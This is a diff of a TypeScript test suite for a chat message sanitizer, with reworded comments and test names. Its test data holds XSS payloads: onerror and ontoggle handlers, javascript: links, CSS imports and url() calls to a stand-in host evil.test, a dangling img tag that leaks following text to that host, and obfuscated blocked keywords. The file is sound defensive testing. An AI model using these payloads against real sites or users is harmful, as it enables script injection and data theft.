@@ -3,28 +3,28 @@ import { textToSend } from '../../../src/content/message/check-text.ts';
 import { issuesOf as cardIssuesOf, cardOf } from './cards.ts';
 import { accepted, html, issuesOf, messageOf, plain } from './messages.ts';
 
-/** Entries that once got something past the checks, each with what is said of it now. */
+/** Inputs that once passed the checks, each with its error. */
 const MESSAGES: readonly (readonly [Record<string, unknown>, RegExp])[] = [
-  // Browsers read an end tag with its attributes, and what stands in their quotes is no tag.
+  // Browsers read the attributes of an end tag. Text in their quotes is no tag.
   [html('</p x="><p title="><img src=x onerror=alert(1)>">'), /not allowed in HTML: the tag img/],
   [html('</x y="><i title="><details open ontoggle=alert(4)>a">'), /not allowed in HTML: the tag x/],
   [html('</a href="><a title="><a href=\'javascript:alert(6)\'>x</a>">'), /not allowed in HTML: .*href/],
   [html('</p x="> text <p title="><style>@import url(https://evil.test/7)</style>">'), /the tag style/],
   [html('</b title="><b title=">x'), /an end tag with attributes/],
-  // A tag or a quote that stays open takes effect in the next message.
+  // An open tag or quote takes effect in the next message.
   [html("Hi <p title='"), /a tag without its ">"/],
   [html("Hi <img src='https://evil.test/?leak="), /a tag without its ">"/],
   [html('Hi <p title="a'), /a tag without its ">"/],
   [html('Hi <a'), /a tag without its ">"/],
   [html('Hi <!-- '), /a comment or declaration/],
-  // A style can fetch an address in more ways than a list has.
+  // A style can load an address in more ways than a list can name.
   [html('<p style="background:u\\72l(https://evil.test/1)">x</p>'), /the attribute style/],
   [html('<p style="background:image-set(\'https://evil.test/3\' 1x)">x</p>'), /the attribute style/],
   [html('<p style="color:red">x</p>'), /the attribute style/],
-  // Words that only a reader sees.
+  // Words that are visible to readers only.
   [plain('mal\u00adware.exe'), /blocked by the pattern/],
   [html('blocked\ufe0f_keyword'), /blocked by the pattern/],
-  // What no reader can read.
+  // Characters that readers cannot see.
   [plain('a\0b'), /U\+0000/],
   [html('a\0b'), /U\+0000/],
   [plain('smile \ud83d end'), /half of a surrogate pair/],
@@ -55,19 +55,19 @@ describe('a card is refused', () => {
   });
 });
 
-test('a quote that would end the value of the message before it is sent as text', () => {
+test('a quote that could end an attribute stays in a message as text', () => {
   const { body } = accepted(messageOf({ body: html("' onmouseover=alert(1)>hover me") }));
   expect(textToSend(body.contentType, body.content)).toBe("' onmouseover=alert(1)&gt;hover me");
 });
 
-test('ordinary texts of other scripts, with line separators and marks, pass', () => {
+test('ordinary texts of other scripts, with line separators and marks, are accepted', () => {
   for (const text of ['a\u2028b', 'e\u0301', 'line\r\nline\ttab', 'שלום \u200f123\u200e', '👩‍👩‍👧']) {
     expect(issuesOf(messageOf({ body: plain(text) }))).toEqual([]);
     expect(issuesOf(messageOf({ body: html(text) }))).toEqual([]);
   }
 });
 
-test('HTML that is too long once its signs are written out is refused', () => {
+test('HTML is refused if it is too long with its signs escaped', () => {
   expect(issuesOf(messageOf({ body: html('&'.repeat(4000)) })).join()).toMatch(
     /at most 4096 bytes .* written out, got 20000/,
   );
